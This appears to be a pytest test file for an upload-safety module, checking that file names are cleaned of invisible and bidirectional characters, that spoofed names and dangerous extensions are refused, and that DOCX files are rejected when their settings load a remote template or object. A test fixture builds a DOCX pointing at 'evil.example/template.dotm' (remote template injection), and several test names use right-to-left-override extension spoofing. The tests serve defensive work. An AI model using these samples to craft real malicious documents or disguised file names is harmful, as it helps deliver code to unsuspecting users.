"""Names of files: cleaned where that will do, refused where they lie."""

from __future__ import annotations

import io
import zipfile

import pytest

from core.errors import DomainError
from core.files import door
from core.files import names
from core.tests import samples

pytestmark = pytest.mark.any_stack


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("\u200eScreenshot 2026.png", "Screenshot 2026.png"),
        ("Screenshot 2026-01-02 at 3.04.05\u202fPM.png", "Screenshot 2026-01-02 at 3.04.05 PM.png"),
        ("תמונה\u200f.png", "תמונה.png"),
        ("\u2068report\u2069.pdf", "report.pdf"),
        ("a\u00adb\u200bc\ufeff.txt", "abc.txt"),
        ("me 👨‍👩‍👧 ❤️.jpg", "me 👨‍👩‍👧 ❤️.jpg"),
        ("می\u200cخواهم.pdf", "می\u200cخواهم.pdf"),
        ("a\u00a0b\u3000c.txt", "a b c.txt"),
        ("C:\\\\photos\\\\a.png", "a.png"),
        ("cafe\u0301.txt", "café.txt"),
    ],
)
def test_it_is_cleaned(sent: str, kept: str) -> None:
    assert names.safe_name(sent) == kept


@pytest.mark.parametrize("sent", ["photo\u202egpj.exe", "a\u202db.txt", "a\x07.txt", "a\nb.txt", "\u200b", " . "])
def test_it_is_refused_where_it_lies_or_says_nothing(sent: str) -> None:
    with pytest.raises(DomainError) as caught:
        names.safe_name(sent)
    assert caught.value.code == "unsafe_name"


@pytest.mark.parametrize(
    "name", ["photo.php.png", "invoice.exe.pdf", "setup.msi.txt", "index.jsp.txt", "logo.svg.png", ".exe.", "exe"]
)
def test_a_program_counts_only_at_the_end(name: str) -> None:
    names.check_extensions(name)


@pytest.mark.parametrize("name", ["a.exe", "a.pdf.exe", "a.EXE ", "photo.png.lnk", "a.svg", "a.txt.svgz"])
def test_there_it_does(name: str) -> None:
    with pytest.raises(DomainError):
        names.check_extensions(name)


def test_a_long_name_is_cut_between_what_readers_take_for_characters() -> None:
    made = names.safe_name("👨‍👩‍👧‍👦" * 60 + ".jpeg")
    assert len(made) <= names.MAX_LENGTH
    assert made.endswith("👨‍👩‍👧‍👦.jpeg")


def _report(relation: str, mode: str) -> bytes:
    """A DOCX whose settings point outside."""
    whole = io.BytesIO(samples.docx("<w:p><w:r><w:t>Hello</w:t></w:r></w:p>"))
    with zipfile.ZipFile(whole, "a") as bundle:
        kind = f"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{relation}"
        target = "https://evil.example/template.dotm"
        relation = f'<Relationship Type="{kind}" Target="{target}" TargetMode="{mode}"/>'
        bundle.writestr("word/_rels/settings.xml.rels", f"<Relationships>{relation}</Relationships>")
    return whole.getvalue()


@pytest.mark.parametrize("relation", ["attachedTemplate", "oleObject", "frame", "subDocument"])
def test_a_document_that_loads_a_part_from_elsewhere_is_refused(relation: str) -> None:
    with pytest.raises(DomainError) as caught:
        door.inspect(io.BytesIO(_report(relation, "External")), "report.docx", "message")
    assert caught.value.code == "remote_content"


@pytest.mark.parametrize(("relation", "mode"), [("hyperlink", "External"), ("attachedTemplate", "Internal")])
def test_links_and_own_parts_are_no_harm(relation: str, mode: str) -> None:
    assert door.inspect(io.BytesIO(_report(relation, mode)), "report.docx", "message").kind == "other"
